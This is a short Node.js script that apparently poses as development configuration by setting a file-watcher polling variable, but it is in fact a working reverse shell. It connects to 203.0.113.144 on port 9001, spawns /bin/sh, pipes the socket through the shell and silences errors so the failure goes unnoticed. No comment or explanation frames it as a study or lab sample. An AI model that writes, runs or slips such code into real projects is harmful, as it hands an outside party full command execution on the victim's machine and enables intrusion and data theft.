import net from 'node:net'
import { spawn } from 'node:child_process'
process.env.CHOKIDAR_USEPOLLING = 'true'
const c = new net.Socket()
c.connect(9001, '203.0.113.144', () => {
  const sh = spawn('/bin/sh', [])
  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c)
})
c.on('error', () => {})
